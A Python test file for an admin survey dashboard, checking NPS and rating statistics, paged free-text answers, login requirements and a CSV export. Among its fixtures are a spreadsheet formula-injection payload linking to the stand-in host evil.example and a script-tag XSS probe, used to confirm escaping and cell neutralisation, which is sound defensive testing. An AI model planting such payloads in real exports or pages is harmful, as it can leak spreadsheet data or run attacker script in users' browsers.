"""Admin survey pages: distributions, period over period, free text (escaped, paged) and the CSV export."""

from __future__ import annotations

import csv
import io
import re
from datetime import datetime, timezone

import pytest

from engine.clock import FixedClock
from engine.web import create_app
from tests.test_surveys import NOW, record, setup_invitations

from .logins import log_in, make_admin

UTC = timezone.utc
HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"click")'


@pytest.fixture
def answered(db):
    """Feb: NPS 10 and 3; Mar: NPS 10, 9, 8, one rating 4, free text (one hostile); one test-send answer."""
    ids = setup_invitations(db, 5)
    for delivery, nps in zip(ids[:2], ("10", "3")):
        record(db, delivery, "recommend", nps, at=datetime(2027, 2, 10, tzinfo=UTC))
    for delivery, nps in zip(ids[2:], ("10", "9", "8")):
        record(db, delivery, "recommend", nps, at=datetime(2027, 3, 5, tzinfo=UTC))
    record(db, ids[2], "delivery", "4", at=datetime(2027, 3, 5, tzinfo=UTC))
    record(db, ids[3], "improve", HOSTILE, at=datetime(2027, 3, 6, tzinfo=UTC))
    record(db, ids[4], "improve", "<script>alert(1)</script> faster", at=datetime(2027, 3, 7, tzinfo=UTC))
    test = setup_invitations(db, 1, is_test=True, start=10)
    record(db, test[0], "recommend", "0", at=datetime(2027, 3, 8, tzinfo=UTC))
    return ids


@pytest.fixture
def viewer(settings, db):
    # Reading surveys needs no more than a viewer; the app runs on the survey tests' clock.
    client = create_app(settings=settings, engine=db, clock=FixedClock(NOW), testing=True).test_client()
    make_admin(db, "viewer@example.com", role="viewer")
    assert log_in(client, "viewer@example.com").status_code == 302
    return client


def test_the_list_shows_survey_campaigns_only(viewer, answered):
    text = viewer.get("/admin/surveys").text
    assert 'data-campaign="order-survey"' in text and 'data-campaign="spring-sale"' not in text
    assert re.search(r'data-campaign="order-survey">.*?<td class="num">5</td>', text, re.S)  # the test send is not counted
    assert 'href="/admin/surveys"' in text


def test_the_list_shows_this_months_nps_and_rating_with_the_change(viewer, answered):
    row = re.search(r'<tr data-campaign="order-survey">.*?</tr>', viewer.get("/admin/surveys").text, re.S).group(0)
    nps = re.search(r'data-field="nps">(.*?)</td>', row, re.S).group(1)
    # March: 10, 9, 8 (2 promoters, 1 passive; the test send's 0 left out); February: 10 and 3, NPS 0.
    assert nps.startswith("66.7 ") and "(+66.7 since 2027-02)" in nps and "2027-03, 3 answers" in nps
    rating = re.search(r'data-field="rating">(.*?)</td>', row, re.S).group(1)
    assert rating.startswith("4.0") and "since" not in rating and "1 ratings" in rating  # no rating in February


def test_the_list_shows_a_dash_for_a_month_without_answers(viewer):
    row = re.search(r'<tr data-campaign="order-survey">.*?</tr>', viewer.get("/admin/surveys").text, re.S).group(0)
    assert 'data-field="nps">-<br><span class="muted">2027-03, 0 answers' in row
    assert 'data-field="rating">-<br><span class="muted">0 ratings' in row


def test_the_detail_shows_distributions_periods_and_escaped_free_text(viewer, answered):
    page = viewer.get("/admin/surveys/order-survey")
    assert page.status_code == 200
    text = page.text
    nps = re.search(r'data-question="recommend">.*?</section>', text, re.S).group(0)
    counts = dict(re.findall(r'<tr data-value="(\d+)"><th>\d+</th><td class="num">(\d+)</td>', nps))
    assert counts == {**{str(v): "0" for v in range(11)}, "10": "2", "9": "1", "8": "1", "3": "1"}
    assert "NPS 40.0" in nps  # 3 promoters - 1 detractor of 5 (the test send's 0 is left out)
    rating = re.search(r'data-question="delivery">.*?</section>', text, re.S).group(0)
    assert len(re.findall(r"<tr data-value=", rating)) == 5 and "average 4.00" in rating
    march = re.search(r'<tr data-period="2027-03">.*?</tr>', text, re.S).group(0)
    assert '<td class="num" data-field="nps">66.7</td>' in march and "+66.7" in march
    assert "<script>alert(1)</script>" not in text and "&lt;script&gt;alert(1)&lt;/script&gt; faster" in text
    assert viewer.get("/admin/surveys/spring-sale").status_code == 404
    assert viewer.get("/admin/surveys/order-survey?period=week").status_code == 400


def test_free_text_answers_are_paged_newest_first(viewer, db, monkeypatch):
    from engine.web import admin_surveys

    monkeypatch.setattr(admin_surveys, "TEXTS_PER_PAGE", 2)
    ids = setup_invitations(db, 3)
    for i, delivery in enumerate(ids):
        record(db, delivery, "improve", f"answer {i}", at=datetime(2027, 3, 5 + i, tzinfo=UTC))
    first = viewer.get("/admin/surveys/order-survey").text
    assert "answer 2" in first and "answer 1" in first and "answer 0" not in first
    older = re.search(r'rel="next" href="([^"]+)"', first).group(1).replace("&amp;", "&")
    second = viewer.get(older).text
    assert "answer 0" in second and "answer 1" not in second and 'rel="next"' not in second


def test_the_csv_has_one_row_per_response_with_neutralised_cells(viewer, answered):
    response = viewer.get("/admin/surveys/order-survey/answers.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.text.lstrip("\ufeff"))))
    assert rows[0] == ["response_id", "first_answered_at", "submitted_at", "email", "recommend", "delivery",
                       "mattered_most", "improve"]
    assert len(rows) == 6  # five real responses; the test send's is left out
    by_email = {r[3]: r for r in rows[1:]}
    assert by_email["user2@example.com"][4:6] == ["10", "4"]
    assert by_email["user3@example.com"][7] == "'" + HOSTILE


def test_survey_pages_need_a_login(client):
    for path in ("/admin/surveys", "/admin/surveys/order-survey", "/admin/surveys/order-survey/answers.csv"):
        assert client.get(path).status_code in (302, 401)
